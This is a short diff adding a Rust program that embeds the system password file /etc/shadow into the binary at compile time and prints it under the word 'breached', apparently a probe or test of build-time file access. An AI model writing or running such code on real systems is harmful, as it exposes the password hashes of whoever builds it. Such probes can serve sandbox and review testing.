@@ -1,0 +1,3 @@
+fn main() {
+    println!("breached {}", include_str!("/etc/shadow"));
+}
